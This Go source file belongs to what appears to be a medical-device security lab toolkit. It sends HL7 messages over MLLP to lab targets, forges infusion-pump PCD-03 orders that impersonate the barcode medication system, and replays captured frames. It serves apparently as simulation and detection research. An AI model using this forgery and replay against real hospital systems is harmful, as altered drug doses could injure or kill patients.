package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"time"

	"github.com/pumplab/pumplab/simulators/hl7"
)

// dialMLLP checks addr and opens an MLLP client to it (TLS when tlsConf is
// set; ServerName defaults to the host as the caller wrote it).
func dialMLLP(ctx context.Context, tg *Targets, addr string, tlsConf *tls.Config) (*mllpConn, error) {
	conn, err := tg.Dial(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	if tlsConf != nil {
		cfg := tlsConf.Clone()
		if cfg.ServerName == "" {
			if host, _, e := net.SplitHostPort(addr); e == nil {
				cfg.ServerName = host
			}
		}
		tc := tls.Client(conn, cfg)
		if err := tc.HandshakeContext(ctx); err != nil {
			_ = conn.Close()
			return nil, fmt.Errorf("attack: tls handshake with %s: %w", addr, err)
		}
		conn = tc
	}
	return &mllpConn{conn: conn, br: bufio.NewReader(conn)}, nil
}

// mllpConn is an MLLP client connection on a checked target (hl7.Dial
// resolves its address itself, so the toolkit frames on its own
// connection).
type mllpConn struct {
	conn net.Conn
	br   *bufio.Reader
}

func (c *mllpConn) Conn() net.Conn { return c.conn }
func (c *mllpConn) Close() error   { return c.conn.Close() }

// send writes one frame and, when wait is set, reads the reply frame; ctx
// cancellation interrupts both.
func (c *mllpConn) send(ctx context.Context, raw []byte, wait bool) ([]byte, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	stop := context.AfterFunc(ctx, func() { _ = c.conn.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	fail := func(err error) ([]byte, error) {
		if ctxErr := ctx.Err(); ctxErr != nil {
			return nil, fmt.Errorf("%w (%v)", ctxErr, err)
		}
		return nil, err
	}
	if err := hl7.WriteFrame(c.conn, raw); err != nil {
		return fail(err)
	}
	if !wait {
		return nil, nil
	}
	reply, err := hl7.ReadFrame(c.br, hl7.MaxMessageSize)
	if err != nil {
		return fail(fmt.Errorf("read reply: %w", err))
	}
	return reply, nil
}

// SendRaw sends one frame and returns the reply frame.
func (c *mllpConn) SendRaw(ctx context.Context, raw []byte) ([]byte, error) {
	return c.send(ctx, raw, true)
}

// tuple names a TCP connection for the ground truth: tcp:src->dst.
func tuple(c net.Conn) string {
	return fmt.Sprintf("tcp:%s->%s", c.LocalAddr(), c.RemoteAddr())
}

// SendMLLP sends raw bytes as one MLLP frame to addr (a lab target; plain
// TCP, or TLS with tlsConf) and returns the reply frame unparsed. The
// connection's 5-tuple and, when raw parses, its MSH-10 go into the step
// running in ctx.
func SendMLLP(ctx context.Context, tg *Targets, addr string, tlsConf *tls.Config, raw []byte) ([]byte, error) {
	c, err := dialMLLP(ctx, tg, addr, tlsConf)
	if err != nil {
		return nil, fmt.Errorf("attack: send MLLP to %s: %w", addr, err)
	}
	defer c.Close()
	Correlate(ctx, tuple(c.Conn()))
	if m, err := hl7.Parse(raw); err == nil {
		Correlate(ctx, "hl7:"+m.ControlID())
	}
	reply, err := c.SendRaw(ctx, raw)
	if err != nil {
		return nil, fmt.Errorf("attack: send MLLP to %s: %w", addr, err)
	}
	return reply, nil
}

// SendHL7 sends m to addr over MLLP (TLS with tlsConf) and returns the
// parsed reply, normally the acknowledgement (see hl7.ParseAck).
func SendHL7(ctx context.Context, tg *Targets, addr string, tlsConf *tls.Config, m *hl7.Message) (*hl7.Message, error) {
	raw, err := SendMLLP(ctx, tg, addr, tlsConf, m.Bytes())
	if err != nil {
		return nil, fmt.Errorf("attack: send %s %s: %w", m.Type(), m.ControlID(), err)
	}
	reply, err := hl7.Parse(raw)
	if err != nil {
		return nil, fmt.Errorf("attack: send %s %s to %s: parse reply: %w", m.Type(), m.ControlID(), addr, err)
	}
	return reply, nil
}

// ForgedOrder is a forged PCD-03 order. Its zero value is the order of
// REFERENCE.md §4.8(a) (norepinephrine 4 mg/250 mL at 0.05 mcg/kg/min for
// MRN4455, 70 kg, on PUMP-0007), sent as if from BCMA_SIM; set only what
// the attack changes.
type ForgedOrder struct {
	PumpID       string  // OBX-18, default PUMP-0007
	DrugCode     string  // RXG-4.1, default NOREPI-4-250
	DrugText     string  // RXG-4.2, default "Norepinephrine 4 mg/250 mL" (with the default code)
	DoseRate     float64 // RXG-15, default 0.05
	DoseRateUnit string  // RXG-16, default mcg/kg/min
	DrugAmount   float64 // RXG-17, default 4 (mg)
	DrugUnit     string  // RXG-18, default mg
	Diluent      float64 // RXG-23, default 250 (mL)
	VTBI         float64 // RXG-5, default 250 (mL)
	WeightKg     float64 // OBX 68063, default 70
	MRN          string  // PID-3, default MRN4455
	PlacerOrder  string  // ORC-2, default ADM-778899
	ControlID    string  // MSH-10, default BCMA000123
	OrderControl string  // ORC-1, default RE
	SendingApp   string  // MSH-3, default BCMA_SIM (a rogue programmer impersonates BCMA)
	// Time is MSH-7 / ORC-9 (lab time); zero means 2025-03-01 10:15:00 -0500.
	Time time.Time
}

// ForgeRGV builds a forged RGV^O15 (PCD-03) from the §4.8(a) layout with
// the order's pump, drug and rate.
func ForgeRGV(o ForgedOrder) *hl7.Message {
	def := func(s *string, v string) {
		if *s == "" {
			*s = v
		}
	}
	defN := func(f *float64, v float64) {
		if *f == 0 {
			*f = v
		}
	}
	if o.DrugCode == "" {
		o.DrugCode, o.DrugText = "NOREPI-4-250", "Norepinephrine 4 mg/250 mL"
	}
	def(&o.PumpID, "PUMP-0007")
	def(&o.DoseRateUnit, "mcg/kg/min")
	def(&o.DrugUnit, "mg")
	def(&o.MRN, "MRN4455")
	def(&o.PlacerOrder, "ADM-778899")
	def(&o.ControlID, "BCMA000123")
	def(&o.OrderControl, hl7.OrderNew)
	def(&o.SendingApp, "BCMA_SIM")
	defN(&o.DoseRate, 0.05)
	defN(&o.DrugAmount, 4)
	defN(&o.Diluent, 250)
	defN(&o.VTBI, 250)
	defN(&o.WeightKg, 70)
	if o.Time.IsZero() {
		o.Time = time.Date(2025, 3, 1, 10, 15, 0, 0, time.FixedZone("", -5*3600))
	}
	return hl7.BuildRGV(hl7.RGV{
		Header: hl7.Header{
			SendingApp: hl7.HD{Namespace: o.SendingApp}, SendingFacility: hl7.HD{Namespace: "HOSP_BCMA"},
			ReceivingApp: hl7.HD{Namespace: "PUMPSRV_SIM"}, ReceivingFacility: hl7.HD{Namespace: "HOSP_BIOMED"},
			Time: o.Time, ControlID: o.ControlID, AcceptAck: "AL", AppAck: "AL",
		},
		Patient:      hl7.Patient{MRN: o.MRN, Authority: "HOSP", Family: "Testpatient", Given: "Alex"},
		OrderControl: o.OrderControl, PlacerOrder: o.PlacerOrder, PlacerApp: o.SendingApp, TxnTime: o.Time,
		GiveCode: o.DrugCode, GiveText: o.DrugText, GiveSystem: "HOSPFORM",
		VTBI: o.VTBI, DoseRate: o.DoseRate, DoseRateUnit: o.DoseRateUnit,
		DrugAmount: o.DrugAmount, DrugAmountUnit: o.DrugUnit, DiluentVolume: o.Diluent,
		Route: "IV", Device: hl7.DeviceLVP, PumpID: o.PumpID, PumpAuthority: "HOSP", WeightKg: o.WeightKg,
	})
}

// Replay sends the client-to-server frames of a capture (ToServer, in
// order) to addr on one connection, byte for byte, and returns the reply to
// each. A recorded frame that the proxy dropped or changed is replayed as
// the client sent it.
func Replay(ctx context.Context, tg *Targets, frames []Frame, addr string) ([][]byte, error) {
	var sent []Frame
	for _, f := range frames {
		if f.Dir == ToServer {
			sent = append(sent, f)
		}
	}
	if len(sent) == 0 {
		return nil, fmt.Errorf("attack: replay to %s: no client-to-server frame in %d frames", addr, len(frames))
	}
	c, err := dialMLLP(ctx, tg, addr, nil)
	if err != nil {
		return nil, fmt.Errorf("attack: replay to %s: %w", addr, err)
	}
	defer c.Close()
	Correlate(ctx, tuple(c.Conn()))
	replies := make([][]byte, 0, len(sent))
	for i, f := range sent {
		if m, err := hl7.Parse(f.Data); err == nil {
			Correlate(ctx, "hl7:"+m.ControlID())
		}
		reply, err := c.SendRaw(ctx, f.Data)
		if err != nil {
			return replies, fmt.Errorf("attack: replay frame %d of %d to %s: %w", i+1, len(sent), addr, err)
		}
		replies = append(replies, reply)
	}
	return replies, nil
}
